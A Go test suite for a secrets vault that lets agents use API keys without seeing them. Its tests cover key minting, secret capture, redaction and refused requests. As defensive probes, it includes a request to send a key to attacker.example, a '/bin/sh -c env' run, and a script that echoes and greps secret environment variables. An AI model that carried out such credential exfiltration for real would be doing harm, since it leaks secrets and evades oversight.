//go:build unix

package tools_test

import (
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/zavhoz/zavhoz/vault"
	"github.com/zavhoz/zavhoz/vault/audit"
	"github.com/zavhoz/zavhoz/vault/fault"
	"github.com/zavhoz/zavhoz/vault/policy"
)

const (
	apiKey  = "acme-canary-9Zk3PqL0vT7xW2mR5yB8"
	fresh   = "sk-or-v1-0f9e8d7c6b5a49382716051423324150"
	apiHost = "example.com" // the name in httptest's certificate
)

// api is a real TLS server; its resource is an api_key of the given handle.
func (h *house) api(handle, service, rule string, handler http.HandlerFunc) (port int) {
	h.t.Helper()
	srv := httptest.NewUnstartedServer(handler)
	srv.EnableHTTP2 = true
	srv.StartTLS()
	h.t.Cleanup(srv.Close)
	port = srv.Listener.Addr().(*net.TCPAddr).Port
	at := apiHost + ":" + strconv.Itoa(port)
	attrs := map[string]string{"hosts": at}
	if service != "" {
		attrs["service"] = service
	} else {
		attrs["env"] = "ACME_KEY"
	}
	rules, err := policy.ParseHostRules(at + rule)
	must(h.t, err)
	h.add(vault.NewResource{Kind: "api_key", Handle: handle, Attrs: attrs, Secrets: values("key", apiKey), Policy: policy.Policy{
		Hosts: rules, Private: true, Resolve: []string{apiHost + "=127.0.0.1"}, UpstreamCA: string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw})),
	}})
	return port
}

// keyMaker answers as a service that makes keys: with one at /api/v1/keys, and elsewhere by whose key it was asked.
func keyMaker(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	who := map[string]string{"Bearer " + apiKey: "the first", "Bearer " + fresh: "the new one"}[r.Header.Get("Authorization")]
	switch r.URL.Path {
	case "/api/v1/keys":
		fmt.Fprintf(w, `{"key":%q,"data":{"name":"bot"}}`, fresh)
	case "/api/v1/echo":
		fmt.Fprintf(w, `{"saw":%q}`, r.Header.Get("Authorization"))
	default:
		fmt.Fprintf(w, `{"by":%q,"path":%q}`, who, r.URL.Path)
	}
}

const mintCall = `{"handle":"router","method":"POST","url":"/api/v1/keys","body":"{\"name\":\"bot\"}","capture":{"handle":"bot_key","kind":"api_key","fields":{"key":"/key"},"purpose":"the bot's own"}}`

// A whole life: a key is made, kept unseen, used at its host, and of no use for more, nor for another agent.
func TestAttack40_AKeyIsMadeAndNeverSeen(t *testing.T) {
	h := newHouse(t)
	h.api("router", "openrouter", " +keys", keyMaker)
	ci, other := h.connect(h.agent(vault.NewAgent{Name: "ci"}), false), h.connect(h.agent(vault.NewAgent{Name: "other"}), true)
	unseen := func(r reply) reply {
		t.Helper()
		for _, v := range []string{apiKey, fresh, fresh[9:25]} {
			if strings.Contains(r.raw, v) {
				t.Errorf("%q came out: %s", v, r.raw)
			}
		}
		return r
	}
	unseen(ci.refused(fault.RequestNotAllowed, "http_request_with_resource", `{"handle":"router","method":"GET","url":"/api/v1/keys"}`, "capture"))
	r := unseen(ci.ok("http_request_with_resource", mintCall))
	if r.str("body") != "" || r.get("withheld") != true || r.get("status") != 200.0 || !strings.Contains(r.Text, "Captured as bot_key") {
		t.Errorf("%s %s", r.Text, r.Data)
	}
	if p := unseen(ci.ok("get_run", `{"run_id":"`+r.str("run_id")+`"}`)); p.str("stdout") != "" {
		t.Errorf("%s", p.Data)
	}
	if r := unseen(ci.ok("http_request_with_resource", `{"handle":"bot_key","method":"GET","url":"/api/v1/models"}`)); r.str("body") != `{"by":"the new one","path":"/api/v1/models"}` {
		t.Errorf("%s", r.Data)
	}
	unseen(ci.ok("http_request_with_resource", `{"handle":"bot_key","method":"GET","url":"/api/v1/echo"}`))
	unseen(ci.refused(fault.RequestNotAllowed, "http_request_with_resource", `{"handle":"bot_key","method":"GET","url":"/api/v1/keys"}`))
	unseen(ci.refused(fault.RequestNotAllowed, "http_request_with_resource", strings.Replace(strings.Replace(mintCall, `"router"`, `"bot_key"`, 1), `"bot_key","kind"`, `"more","kind"`, 1)))
	unseen(ci.refused(fault.HandleTaken, "http_request_with_resource", mintCall))
	unseen(other.refused(fault.UnknownResource, "http_request_with_resource", `{"handle":"bot_key","method":"GET","url":"/api/v1/models"}`))
	got, err := h.Resource(ctx, "bot_key")
	must(t, err)
	if !slices.Equal(got.Policy.Agents, []string{"ci"}) || got.Labels[vault.CapturedBy] != "ci" || got.UpdatedBy != "ci" || !strings.Contains(got.Why, "the bot's own") {
		t.Errorf("%+v", got)
	}
	if on := h.denials(audit.ResourceAdd); !slices.Contains(on, string(fault.HandleTaken)) {
		t.Errorf("no record of the refused capture: %v", on)
	}
}

// A generic capture waits for a person: no request, no command of a model's choice gets it.
func TestAttack34_AGenericCaptureGoesNowhere(t *testing.T) {
	h := newHouse(t)
	h.api("router", "openrouter", " +keys", keyMaker)
	c := h.connect(h.agent(vault.NewAgent{Name: "ci"}), false)
	c.ok("http_request_with_resource", `{"handle":"router","method":"POST","url":"/api/v1/keys","capture":{"handle":"raw","fields":{"value":"regex:\"key\":\"([^\"]+)\""}}}`)
	c.refused(fault.DeliveryRefused, "http_request_with_resource", `{"handle":"raw","method":"GET","url":"/x"}`)
	if r := c.call("run_with_resource", runCall("raw", "/bin/sh", "-c", "env")); r.Code == "" || strings.Contains(r.raw, fresh) {
		t.Errorf("%s", r.raw)
	}
	p := script(t, `echo "$SECRET_VALUE"; printenv | grep -c sk-or`)
	h.setPolicy("raw", policy.Policy{Agents: []string{"ci"}, Pins: []policy.Pin{{Name: "p", Argv: []string{p}}}})
	if r := c.ok("run_with_resource", runCall("raw", p)); !strings.HasPrefix(r.str("stdout"), "[redacted:raw.value]\n") {
		t.Errorf("%s", r.raw)
	}
}

// The output of a pinned command becomes a resource.
func TestACapturedOutput(t *testing.T) {
	h := newHouse(t)
	tool := script(t, `echo "made: `+fresh+`"; echo "`+fresh+` is yours" >&2`)
	h.addBot("b", pinned(tool))
	c := h.connect(h.agent(vault.NewAgent{Name: "ci"}), false)
	r := c.ok("run_with_resource", `{"resources":["b"],"command":[`+quote(tool)+`],"capture":{"handle":"made","fields":{"value":"regex:made: (\\S+)"}}}`)
	if strings.Contains(r.raw, fresh[9:20]) || r.str("stdout") != "" || r.str("stderr") != "[redacted:made.value] is yours\n" || !strings.Contains(r.Text, "Captured as made") {
		t.Errorf("%s", r.raw)
	}
	f := c.refused(fault.OutputWithheld, "run_with_resource", `{"resources":["b"],"command":[`+quote(tool)+`],"capture":{"handle":"again","fields":{"value":"/x"}}}`)
	if strings.Contains(f.raw, fresh[9:20]) {
		t.Errorf("%s", f.raw)
	}
	c.refused(fault.InvalidArgument, "run_with_resource", `{"resources":["b"],"command":[`+quote(tool)+`],"capture":{"handle":"x","kind":"api_key","fields":{"key":"/x"}}}`)
}

// Refusals name what the caller can do, and are on record.
func TestRefusedRequests(t *testing.T) {
	h := newHouse(t)
	port := h.api("acme", "", " GET /v1/*", keyMaker)
	h.addServer("s")
	c := h.connect(h.agent(vault.NewAgent{Name: "ci"}), false)
	at := fmt.Sprintf("%s:%d", apiHost, port)
	c.refused(fault.HostNotAllowed, "http_request_with_resource", `{"handle":"acme","method":"GET","url":"https://attacker.example/v1/x"}`, at)
	c.refused(fault.RequestNotAllowed, "http_request_with_resource", `{"handle":"acme","method":"POST","url":"/v1/x"}`, at)
	c.refused(fault.RequestNotAllowed, "http_request_with_resource", `{"handle":"acme","method":"GET","url":"/admin"}`, at)
	c.refused(fault.HTTPSRequired, "http_request_with_resource", `{"handle":"acme","method":"GET","url":"http://`+at+`/v1/x"}`)
	c.refused(fault.DeliveryRefused, "http_request_with_resource", `{"handle":"s","method":"GET","url":"/"}`)
	if r := c.ok("http_request_with_resource", `{"handle":"acme","method":"GET","url":"/v1/x"}`); r.str("body") != `{"by":"the first","path":"/v1/x"}` || r.get("status") != 200.0 {
		t.Errorf("%s", r.Data)
	}
	on := h.denials(audit.RunStart)
	for _, code := range []fault.Code{fault.HostNotAllowed, fault.HTTPSRequired, fault.DeliveryRefused} {
		if !slices.Contains(on, string(code)) {
			t.Errorf("no record of %s: %v", code, on)
		}
	}
}

// A long reply comes back at its beginning, within what clients take; get_run reads on.
func TestALongReplyIsPaged(t *testing.T) {
	h := newHouse(t)
	want := strings.Repeat("line of text, é\n", 6000)
	h.api("acme", "", "", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		fmt.Fprint(w, want)
	})
	c := h.connect(h.agent(vault.NewAgent{Name: "ci"}), false)
	r := c.ok("http_request_with_resource", `{"handle":"acme","method":"GET","url":"/"}`)
	if len(r.Data) > maxReply || !strings.Contains(r.Text, "get_run with offset") || r.get("truncated") != false {
		t.Errorf("%s %d bytes", r.Text, len(r.Data))
	}
	all, at := r.str("body"), r.get("next_offset").(float64)
	for len(all) < len(want) {
		p := c.ok("get_run", fmt.Sprintf(`{"run_id":%q,"offset":%.0f}`, r.str("run_id"), at))
		if p.str("stdout") == "" {
			break
		}
		all, at = all+p.str("stdout"), p.get("next_offset").(float64)
	}
	if all != want {
		t.Errorf("read %d of %d bytes", len(all), len(want))
	}
}
